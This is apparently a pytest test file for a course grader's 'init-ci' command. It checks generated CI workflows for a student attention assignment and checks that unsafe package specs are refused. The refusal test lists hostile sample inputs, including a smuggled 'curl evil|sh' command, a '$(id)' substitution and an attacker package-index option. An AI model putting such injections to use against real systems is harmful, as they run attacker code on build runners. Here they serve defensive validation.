"""``grader init-ci``: each target's files, run as that CI runs them, and their outputs validated."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from junitparser import JUnitXml
from spec_totals import G14

from grader.builtin.classroom import SCHEMA
from grader.integrations.ci import NOTE

ROOT = Path(__file__).resolve().parents[2]
MUTANT = ROOT / "reference" / "mutants" / "no_sqrt_dk" / "attention.py"  # 33/35 visible points: two checks fail
BIN = Path(sys.executable).parent


def _repo(tmp_path: Path, target: str) -> Path:
    repo = tmp_path / "student-repo"
    repo.mkdir()
    shutil.copy(MUTANT, repo / "attention.py")
    proc = subprocess.run(
        [str(BIN / "grader"), "init-ci", target, "--dir", str(repo), "--package", "dist/g14.whl"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[-1] == NOTE
    return repo


def _env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "GITLAB", "CI"))}
    env.update(PATH=f"{BIN}{os.pathsep}{env.get('PATH', '')}", GRADER_CACHE_DIR="", NO_COLOR="1", **extra)
    return env


def _run(line: str, repo: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        shlex.split(line), cwd=repo, env=env, capture_output=True, text=True, timeout=300, check=False
    )


def _installs(line: str) -> bool:
    return "pip install" in line


@pytest.mark.slow
def test_github_workflow_runs_as_actions_runs_it(tmp_path: Path) -> None:
    repo = _repo(tmp_path, "github")
    path = repo / ".github" / "workflows" / "g14-checks.yml"
    text = path.read_text()
    assert NOTE in text
    workflow = yaml.safe_load(text)
    job = workflow["jobs"]["g14-checks"]
    assert workflow["permissions"] == {"contents": "read"} == job["permissions"]  # read-only, for the job too
    assert "secrets." not in text and "github.token" not in text and "env" not in job
    checkout = [s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout")]
    assert checkout[0]["with"] == {"persist-credentials": False}  # no token left in .git/config for student code
    assert "Classroom" not in text.replace("GitHub Classroom\n        # read until its retirement on 2026-08-28", "")
    runs = [step["run"] for step in job["steps"] if "run" in step]
    assert runs[0] == 'python -m pip install "dist/g14.whl"'
    summary = tmp_path / "step-summary.md"
    env = _env(
        GITHUB_ACTIONS="true",
        CI="true",
        GITHUB_WORKSPACE=str(repo),
        GITHUB_STEP_SUMMARY=str(summary),
        GITHUB_ACTOR="student",
        GITHUB_REPOSITORY="course/student-repo",
    )
    [check] = [line for line in runs if not _installs(line)]
    proc = _run(check, repo, env)
    assert proc.returncode == 1, proc.stderr  # visible checks fail: the job is red
    lines = proc.stdout.splitlines()
    # The two notices GitHub Classroom reads, exactly as its reporter writes them, before any other annotation.
    assert lines[0] == "::notice title=Autograding complete::Points 33/35"
    assert lines[1] == '::notice title=Autograding report::{"totalPoints":33,"maxPoints":35}'
    assert json.loads(lines[1].split("::", 2)[2]) == {"totalPoints": 33, "maxPoints": 35}
    errors = [line for line in lines if line.startswith("::error ")]
    assert len(errors) == 2 and "file=attention.py" in errors[0] and "G14.02 scaled-scores-dk3" in errors[0]
    assert "G14.06 causal-masked-scores-above-max" in errors[1]  # d_k = 2: the missing scale shows there too
    assert "## G14 checks: attention.py" in summary.read_text()
    xml = JUnitXml.fromfile(str(repo / "junit.xml"))
    cases = [case for suite in xml for case in suite]
    assert len(cases) == G14.visible_checks and sum(1 for c in cases if not c.is_passed) == 2
    upload = [s for s in job["steps"] if s.get("uses", "").startswith("actions/upload-artifact")]
    assert upload[0]["with"]["path"] == "junit.xml" and upload[0]["if"] == "always()"


@pytest.mark.slow
def test_gitlab_job_runs_as_gitlab_runs_it(tmp_path: Path) -> None:
    repo = _repo(tmp_path, "gitlab")
    text = (repo / ".gitlab-ci.yml").read_text()
    assert NOTE in text
    job = yaml.safe_load(text)["g14-checks"]
    env = _env(GITLAB_CI="true", CI="true", CI_PROJECT_DIR=str(repo), CI_JOB_NAME="g14-checks")
    assert job["script"][0] == "unset CI_JOB_TOKEN CI_REPOSITORY_URL CI_REGISTRY_PASSWORD CI_DEPENDENCY_PROXY_PASSWORD"
    assert job["script"][1] == 'python -m pip install "dist/g14.whl"' and "variables" not in job
    codes = [_run(line, repo, env).returncode for line in job["script"][2:]]
    assert codes == [1]
    assert job["artifacts"] == {"when": "always", "reports": {"junit": "junit.xml"}}
    xml = JUnitXml.fromfile(str(repo / job["artifacts"]["reports"]["junit"]))
    cases = {(suite.name, case.name): case for suite in xml for case in suite}
    assert len(cases) == G14.visible_checks and not cases[("G14.02", "scaled-scores-dk3")].is_passed
    assert cases[("G14.06", "rejects-nan-value")].is_passed


RESULT_FIELDS = {
    "schema",
    "classroom",
    "assignment",
    "assignment_type",
    "owner",
    "submission",
    "commit",
    "release",
    "review",
    "datetime",
    "graded_at",
    "score",
    "max-score",
    "tests",
    "submitted_by",
}
"""Classroom 50's result.json v1 fields (FORMATS.md)."""


@pytest.mark.slow
def test_classroom50_autograder_writes_result_json_v1(tmp_path: Path) -> None:
    repo = _repo(tmp_path, "classroom50")
    autograder = repo / "autograder.py"
    assert NOTE in autograder.read_text() and "never used for lateness" in autograder.read_text()
    git_env = {
        **_env(),
        "GIT_AUTHOR_NAME": "s",
        "GIT_AUTHOR_EMAIL": "s@x",
        "GIT_COMMITTER_NAME": "s",
        "GIT_COMMITTER_EMAIL": "s@x",
        "GIT_COMMITTER_DATE": "2020-01-02T03:04:05Z",
    }
    for cmd in (["git", "init", "-q"], ["git", "add", "attention.py"], ["git", "commit", "-qm", "submit"]):
        subprocess.run(cmd, cwd=repo, env=git_env, check=True, capture_output=True)
    env = _env(
        CLASSROOM="g14-course",
        ASSIGNMENT="attention",
        ASSIGNMENT_TYPE="individual",
        OWNER="alice",
        SUBMISSION_TAG="submit/20200102T030405Z-abc1234",
        COMMIT_URL="https://github.com/c/r/commit/abc",
        RELEASE_URL="https://github.com/c/r/releases/tag/x",
        REVIEW_URL="https://github.com/c/r/pull/1",
        GITHUB_ACTIONS="true",
    )
    proc = subprocess.run(
        [sys.executable, str(autograder)], cwd=repo, env=env, capture_output=True, text=True, timeout=300, check=False
    )
    assert proc.returncode == 0, proc.stderr  # a failing check is a grade, not an infrastructure error
    result = json.loads((repo / "result.json").read_text())
    assert set(result) <= RESULT_FIELDS
    assert result["schema"] == SCHEMA == "classroom50/result/v1"
    assert (result["classroom"], result["assignment"], result["owner"]) == ("g14-course", "attention", "alice")
    assert result["submission"] == "submit/20200102T030405Z-abc1234" and result["assignment_type"] == "individual"
    assert result["datetime"] == "2020-01-02T03:04:05Z"  # the contract's field, the committer's date
    assert "late" not in json.dumps(result)  # never used for lateness
    assert type(result["score"]) is int and type(result["max-score"]) is int
    assert (result["score"], result["max-score"]) == (33, 35)
    assert len(result["tests"]) == G14.visible_checks
    for test in result["tests"]:
        assert type(test["test-name"]) is str and type(test["passed"]) is bool
        assert type(test["score"]) is int and type(test["max-score"]) is int
    assert sum(t["score"] for t in result["tests"]) == 33
    failed, other = [t for t in result["tests"] if not t["passed"]]
    assert failed["test-name"] == "G14.02 scaled-scores-dk3" and failed["score"] == 0 and failed["max-score"] == 1
    assert other["test-name"] == "G14.06 causal-masked-scores-above-max"


def test_init_ci_refuses_to_overwrite_and_an_unknown_target(tmp_path: Path, cli) -> None:  # noqa: ANN001
    code, out, err = cli("init-ci", "github", "--dir", tmp_path, "--package", "g14-grader==0.1.0")
    assert code == 0 and (tmp_path / ".github" / "workflows" / "g14-checks.yml").is_file()
    code, out, err = cli("init-ci", "github", "--dir", tmp_path, "--package", "g14-grader==0.1.0")
    assert code == 2 and "exists; remove it or pass --force" in err
    assert cli("init-ci", "github", "--dir", tmp_path, "--force", "--package", "g14-grader")[0] == 0
    code, _, err = cli("init-ci", "jenkins")
    assert code == 2 and "invalid choice: 'jenkins'" in err


@pytest.mark.parametrize("command", [["grade", "submissions"], ["validate"]])
def test_the_classroom_options_are_for_check_only(cli, command: list[str]) -> None:  # noqa: ANN001
    code, _, err = cli(*command, "--points-notice")
    assert code == 2 and "unrecognized arguments: --points-notice" in err


PACKAGE_HELP = (
    "the course's student wheel as a path in the template repository (dist/NAME.whl), an https:// URL, "
    "or the name the course publishes it under on its package index (NAME or NAME==VERSION)"
)


@pytest.mark.parametrize("target", ["github", "gitlab", "classroom50"])
def test_init_ci_without_package_exits_2_with_one_line_and_writes_nothing(tmp_path: Path, cli, target: str) -> None:  # noqa: ANN001
    code, out, err = cli("init-ci", target, "--dir", tmp_path)
    assert (code, out) == (2, "")
    assert err == f"grader: error: init-ci: --package is required: {PACKAGE_HELP}\n"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "spec",
    [
        "g14 grader",  # two requirements to pip
        "g14-grader numpy",
        "--index-url=https://evil.example/simple",  # an option, not a package
        "-e.",
        "/abs/dist/g14.whl",  # outside the template repository
        "../dist/g14.whl",
        "dist/../../g14.whl",
        "dist/g14.tar.gz",  # a path that is not a wheel
        "http://example.org/g14.whl",  # no TLS: anyone on the way chooses what is installed
        "https://example.org/g 14.whl",
        'g14"; curl evil|sh; "',
        "https://example.org/$(id).whl",
        "g14-grader>=0",  # one version or none: a range lets a later upload in
        "g14\ngrader",
    ],
)
def test_init_ci_refuses_a_package_that_is_not_one_thing(tmp_path: Path, cli, spec: str) -> None:  # noqa: ANN001
    code, out, err = cli("init-ci", "gitlab", "--dir", tmp_path, f"--package={spec}")
    assert (code, out) == (2, "") and err.count("\n") == 1
    assert err.startswith("grader: error: --package ") and err.endswith(f"not one package; give {PACKAGE_HELP}\n")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("args", [["--package="], ["--package", ""]])
def test_init_ci_refuses_an_empty_package(tmp_path: Path, cli, args: list[str]) -> None:  # noqa: ANN001
    """An empty value (an unset variable) is refused before anything else looks at it, as any option's."""
    code, out, err = cli("init-ci", "gitlab", "--dir", tmp_path, *args)
    assert (code, out) == (2, "")
    assert err == "grader: error: --package: empty (an unset variable?); give a value, or leave the option out\n"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "spec",
    [
        "dist/g14_grader-0.1.0-py3-none-any.whl",
        "g14.whl",
        "https://example.org/w/g14-0.1-py3-none-any.whl",
        "g14-grader",
    ],
)
def test_init_ci_writes_the_package_as_given(tmp_path: Path, cli, spec: str) -> None:  # noqa: ANN001
    for target, rel in (("github", ".github/workflows/g14-checks.yml"), ("gitlab", ".gitlab-ci.yml")):
        assert cli("init-ci", target, "--dir", tmp_path, "--package", spec, "--force")[0] == 0
        assert f'python -m pip install "{spec}"' in (tmp_path / rel).read_text()
    assert cli("init-ci", "classroom50", "--dir", tmp_path, "--package", spec)[0] == 0
    assert f'PACKAGE = "{spec}"' in (tmp_path / "autograder.py").read_text()
